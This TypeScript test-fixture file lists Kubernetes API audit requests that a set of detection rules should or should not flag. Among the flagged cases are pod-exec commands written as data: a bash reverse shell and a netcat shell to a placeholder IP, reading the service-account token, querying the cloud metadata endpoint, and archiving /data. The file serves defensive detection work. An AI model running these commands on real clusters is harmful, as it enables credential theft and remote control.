import type { UserInfo } from '@leastwise/audit-event';

import type { Overrides } from './facts-about.ts';

/** What an authorizer refused. */
export const REFUSED: Overrides = { decision: 'forbid', code: 403 };
const SA = 'system:serviceaccount:dev:app';
const IN_POD: Partial<UserInfo> = {
  username: SA,
  extra: [['authentication.kubernetes.io/pod-name', ['app-1']]],
};
const NODE = 'system:node:n1';
export const SCHEDULER = 'system:kube-scheduler';
const CONTROLLER = 'system:serviceaccount:kube-system:deployment-controller';

export const CORE = '/api/v1';
export const DEV = `${CORE}/namespaces/dev`;
export const SYSTEM = `${CORE}/namespaces/kube-system`;
export const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const ADMISSION = '/apis/admissionregistration.k8s.io/v1';
const CSRS = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
export const POD = `${DEV}/pods/web`;
export const exec = (...command: string[]): string =>
  `${POD}/exec?${command.map((word) => `command=${encodeURIComponent(word)}`).join('&')}&stdin=true`;

/** A request, as `factsAbout` takes it. */
export type Case = readonly [request: string, overrides?: Overrides];

/** By detection, what it finds and what it does not. */
export const CASES: Readonly<
  Record<string, { readonly finds: readonly Case[]; readonly not: readonly Case[] }>
> = {
  D01: {
    finds: [
      [`get ${POD}`, { user: 'system:anonymous' }],
      ['get /metrics', { user: 'system:anonymous' }],
      ['get /versions', { user: 'system:anonymous' }],
    ],
    not: [
      ['get /healthz?verbose', { user: 'system:anonymous' }],
      ['get /readyz/etcd', { user: 'system:anonymous' }],
      ['get /version', { user: 'system:anonymous' }],
      ['get /.well-known/openid-configuration', { user: 'system:anonymous' }],
      [`get ${POD}`, { user: 'system:anonymous', ...REFUSED }],
      [`get ${POD}`],
    ],
  },
  D06: {
    finds: [
      ['create /apis/authorization.k8s.io/v1/selfsubjectrulesreviews', { user: SA }],
      ['create /apis/authorization.k8s.io/v1/selfsubjectaccessreviews'],
    ],
    not: [
      ['create /apis/authorization.k8s.io/v1/subjectaccessreviews', { user: SA }],
      ['create /apis/authorization.k8s.io/v1/selfsubjectrulesreviews', { user: SCHEDULER }],
    ],
  },
  D07: {
    finds: [
      [`list ${CORE}/secrets?limit=500`],
      [`watch ${CORE}/secrets?watch=1`, { user: SA }],
      [`list ${CORE}/secrets`, { user: NODE }],
    ],
    not: [
      [`list ${DEV}/secrets`],
      [`list ${CORE}/secrets`, REFUSED],
      [`list ${CORE}/secrets`, { user: SCHEDULER }],
      [`list ${CORE}/configmaps`],
      ['list /apis/x.example.com/v1/secrets'],
    ],
  },
  D09: {
    finds: [
      [`get ${DEV}/secrets/db`, { userAgent: 'curl/8.5.0' }],
      [`list ${DEV}/secrets`, { userAgent: 'python-requests/2.31' }],
      [`get ${DEV}/secrets/db`, { userAgent: 'Go-http-client/2.0' }],
      [`get ${DEV}/secrets/db`, { userAgent: 'my-controller/v1' }],
    ],
    not: [
      [`get ${DEV}/configmaps/db`, { userAgent: 'curl/8.5.0' }],
      [`get ${DEV}/secrets/db`, { userAgent: 'curl/8.5.0', ...REFUSED }],
    ],
  },
  D10: {
    finds: [
      [`list ${SYSTEM}/secrets`],
      [`list ${CORE}/namespaces/default/secrets`],
      [`get ${DEV}/secrets/db`, { user: SA }],
    ],
    not: [
      [`list ${DEV}/secrets`],
      [`get ${SYSTEM}/secrets/x`],
      [`list ${SYSTEM}/secrets`, { user: CONTROLLER }],
    ],
  },
  D12: {
    finds: [[`create ${DEV}/secrets`, { code: 201 }], [`delete ${SYSTEM}/secrets/x`]],
    not: [[`get ${DEV}/secrets/x`], [`patch ${DEV}/secrets/x`, { user: SCHEDULER }]],
  },
  D13: {
    finds: [[`create ${DEV}/serviceaccounts/app/token`, { code: 201 }]],
    not: [
      [`create ${DEV}/serviceaccounts/app/token`, { user: NODE }],
      [`create ${DEV}/serviceaccounts`, { code: 201 }],
      [`create ${DEV}/serviceaccounts/app/token`, REFUSED],
    ],
  },
  D14: {
    finds: [
      // What the rules of others miss: WebSocket clients get.
      [`get ${exec('id')}`, { code: 101, stage: 'ResponseStarted' }],
      [`create ${exec('id')}`, { code: 101, stage: 'ResponseStarted' }],
      [`create ${POD}/attach?stdin=true`, { code: 200 }],
    ],
    not: [
      [`create ${exec('id')}`, REFUSED],
      [`create ${exec('id')}`, { code: 404 }],
      [`get ${POD}/log`],
      [`create ${exec('id')}`, { code: 0, stage: 'RequestReceived', decision: '' }],
    ],
  },
  D15: {
    finds: [
      [`create ${exec('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token')}`, { code: 101 }],
      [`get ${exec('curl', 'http://169.254.169.254/latest/')}`, { code: 101 }],
      [`create ${POD}/exec?command=%2Fbin%2Fba%73h&command=-c&command=bash+-i+%3E%26+/dev/tcp/1.2.3.4/9`],
      [`create ${exec('nc', '-e', '/bin/x', '1.2.3.4', '9')}`],
      [`create ${exec('tar', 'cf', '-', '/data')}`],
      [`create ${exec('/bin/sh')}`],
      [`create ${exec('x'.repeat(70_000))}`],
    ],
    not: [
      [`create ${exec('date')}`],
      [`create ${exec('ls', '/data')}`],
      [`create ${exec('/bin/sh')}`, REFUSED],
      [`create ${POD}/attach?command=/bin/sh`],
    ],
  },
  D16: {
    finds: [
      [`create ${POD}/portforward`, { code: 101 }],
      [`get ${POD}/portforward`, { code: 101 }],
    ],
    not: [[`get ${POD}`], [`create ${POD}/portforward`, REFUSED]],
  },
  D17: {
    finds: [[`patch ${POD}/ephemeralcontainers`], [`update ${POD}/ephemeralcontainers`]],
    not: [
      [`get ${POD}/ephemeralcontainers`],
      [`patch ${POD}`],
      [`patch ${POD}/ephemeralcontainers`, REFUSED],
    ],
  },
  D18: {
    finds: [
      [`create ${CORE}/nodes/n1/proxy/run/dev/web/c?cmd=id`],
      [`get ${CORE}/nodes/n1/proxy/`],
      [`get ${CORE}/nodes/n1/proxy/metrics/../run`],
      [`get ${CORE}/nodes/n1/proxy/%6detrics`],
      [`get ${CORE}/proxy/nodes/n1/pods`],
      [`get ${CORE}/nodes/n1/proxy/pods`, REFUSED],
    ],
    not: [
      [`get ${CORE}/nodes/n1/proxy/metrics/cadvisor`],
      [`get ${CORE}/nodes/n1/proxy/stats/summary?only_cpu=true`],
      [`get ${CORE}/nodes/n1/proxy/healthz`],
      [`get ${CORE}/nodes/n1`],
      [`get ${DEV}/services/web/proxy/run`],
    ],
  },
  D20: {
    finds: [[`create ${SYSTEM}/pods`, { code: 201 }]],
    not: [
      [`create ${SYSTEM}/pods`, { user: NODE, code: 201 }],
      [`create ${DEV}/pods`, { code: 201 }],
      [`create ${SYSTEM}/pods`, { user: CONTROLLER, code: 201 }],
      [`create ${SYSTEM}/pods/x/binding`, { code: 201 }],
    ],
  },
  D22: {
    finds: [
      [`create ${DEV}/serviceaccounts`, { code: 201 }],
      [`create ${SYSTEM}/serviceaccounts`, { code: 201 }],
      [`delete ${CORE}/namespaces/dev`],
    ],
    not: [
      [`create ${DEV}/serviceaccounts/app/token`],
      [`create ${DEV}/serviceaccounts?dryRun=All`, { code: 201 }],
      [`get ${CORE}/namespaces/dev`],
    ],
  },
  D26: {
    finds: [
      [`create ${RBAC}/clusterrolebindings`, { code: 201 }],
      [`delete ${RBAC}/namespaces/dev/rolebindings/x`],
      [`patch ${RBAC}/namespaces/dev/roles/x`, { user: SA }],
    ],
    not: [
      [`patch ${RBAC}/namespaces/dev/roles/x`],
      [`list ${RBAC}/clusterrolebindings`],
      // No API server knows this verb, which a published rule asks for.
      [`replace ${RBAC}/clusterrolebindings/x`],
      [`patch ${RBAC}/clusterrolebindings/x?dryRun=All`],
    ],
  },
  D27: {
    finds: [
      [`patch ${RBAC}/clusterroles/system:node`],
      [`delete ${RBAC}/clusterroles/eks:addon`],
      [`deletecollection ${RBAC}/clusterroles`],
    ],
    not: [
      [`patch ${RBAC}/clusterroles/viewer`],
      [`get ${RBAC}/clusterroles/system:node`],
      [`update ${RBAC}/clusterroles/system:node`, { user: 'system:apiserver' }],
    ],
  },
  D29: {
    finds: [
      [`get ${POD}`, { as: { username: 'bob', groups: ['system:masters'] } }],
      [`get ${POD}`, { as: CONTROLLER }],
      [`get ${POD}`, { as: NODE }],
      [
        `get ${POD}`,
        {
          as: 'bob',
          code: 403,
          decision: '',
          statusMessage: 'users "bob" is forbidden: User "alice" cannot impersonate',
        },
      ],
    ],
    not: [
      [`get ${POD}`, { as: 'bob' }],
      [`get ${POD}`, { as: SA }],
      [`get ${POD}`, { user: 'system:apiserver', as: NODE }],
      [`get ${POD}`, { as: 'bob', ...REFUSED }],
    ],
  },
  D30: {
    finds: [
      [`create ${ADMISSION}/mutatingwebhookconfigurations`, { code: 201 }],
      [`delete ${ADMISSION}/validatingadmissionpolicybindings/x`],
      ['patch /apis/apiregistration.k8s.io/v1/apiservices/v1.x'],
      ['update /apis/apiextensions.k8s.io/v1/customresourcedefinitions/x'],
    ],
    not: [
      [`list ${ADMISSION}/mutatingwebhookconfigurations`],
      ['update /apis/apiregistration.k8s.io/v1/apiservices/v1.x/status'],
      [`create ${ADMISSION}/mutatingwebhookconfigurations?dryRun=All`],
    ],
  },
  D31: {
    finds: [[`create ${CSRS}`, { code: 201 }], [`update ${CSRS}/x/approval`]],
    not: [
      [`create ${CSRS}`, { user: NODE, code: 201 }],
      [`create ${CSRS}`, { user: 'system:bootstrap:abcdef', code: 201 }],
      [`update ${CSRS}/x/approval`, { user: 'system:kube-controller-manager' }],
      [`get ${CSRS}/x`],
    ],
  },
  D32: {
    finds: [
      [`patch ${SYSTEM}/configmaps/aws-auth`],
      [`update ${SYSTEM}/configmaps/coredns`],
      [`deletecollection ${SYSTEM}/configmaps`],
    ],
    not: [
      [`patch ${DEV}/configmaps/aws-auth`],
      [`patch ${SYSTEM}/configmaps/other`],
      [`get ${SYSTEM}/configmaps/aws-auth`],
    ],
  },
  D33: {
    finds: [[`deletecollection ${DEV}/events`], ['delete /apis/events.k8s.io/v1/namespaces/dev/events/x']],
    not: [[`create ${DEV}/events`], [`deletecollection ${DEV}/events`, { user: 'system:apiserver' }]],
  },
  D34: {
    finds: [['delete /apis/apps/v1/namespaces/dev/deployments/web']],
    not: [
      ['patch /apis/apps/v1/namespaces/dev/deployments/web'],
      ['delete /apis/apps/v1/namespaces/dev/deployments/web', REFUSED],
    ],
  },
  D35: {
    finds: [['patch /apis/apps/v1/namespaces/dev/deployments/web', { user: SA }]],
    not: [
      ['get /apis/apps/v1/namespaces/dev/deployments/web'],
      ['patch /apis/apps/v1/namespaces/dev/deployments/web?dryRun=All'],
      ['patch /apis/apps/v1/namespaces/dev/deployments/web', { user: CONTROLLER }],
    ],
  },
  D37: {
    finds: [
      [`create ${CORE}/nodes`, { code: 201 }],
      [
        `create ${CORE}/nodes`,
        {
          user: NODE,
          code: 201,
          objectRef: { apiGroup: '', resource: 'nodes', subresource: '', namespace: '', name: 'n2' },
        },
      ],
    ],
    not: [
      [
        `create ${CORE}/nodes`,
        {
          user: NODE,
          code: 201,
          objectRef: { apiGroup: '', resource: 'nodes', subresource: '', namespace: '', name: 'n1' },
        },
      ],
      [`patch ${CORE}/nodes/n1`],
    ],
  },
  D38: {
    finds: [[`get ${POD}`, { user: 'kubernetes-admin' }]],
    not: [[`get ${POD}`], [`get ${POD}`, { user: SA }]],
  },
  D40: {
    finds: [
      [`get ${POD}`, { user: SA, userAgent: 'curl/8' }],
      [`get ${POD}`, REFUSED],
      [`create ${DEV}/pods`, { user: SA, ...REFUSED }],
    ],
    not: [[`get ${POD}`], [`get ${POD}`, { user: CONTROLLER, ...REFUSED }]],
  },
  D41: {
    finds: [[`get ${POD}`, { user: SA }]],
    not: [[`get ${POD}`, { user: IN_POD }], [`get ${POD}`, { user: CONTROLLER }], [`get ${POD}`]],
  },
  D42: {
    finds: [
      [`get ${POD}`, { user: { username: 'root', groups: ['system:masters'] } }],
      [`get ${POD}`, { user: { username: 'root', groups: ['system:masters'] }, as: 'bob' }],
    ],
    not: [
      [`get ${POD}`, { user: { username: 'system:apiserver', groups: ['system:masters'] } }],
      [`get ${POD}`, { user: { groups: ['system:masters-not'] } }],
    ],
  },
  D44: {
    finds: [
      [`get ${DEV}/secrets/x`, { user: 'system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa' }],
      [`create ${DEV}/pods`, { user: 'system:anonymous', code: 201 }],
    ],
    not: [
      [
        `get ${CORE}/namespaces/azure-arc/secrets/x`,
        { user: 'system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa' },
      ],
      [`get ${POD}`, { user: 'system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa' }],
      [`get ${POD}`, { user: 'system:anonymous' }],
    ],
  },
  D52: {
    finds: [[`get ${POD}`], [`get ${POD}`, REFUSED]],
    not: [
      [`get ${POD}`, { decision: '', code: 401 }],
      [`get ${POD}`, { user: CONTROLLER }],
    ],
  },
};
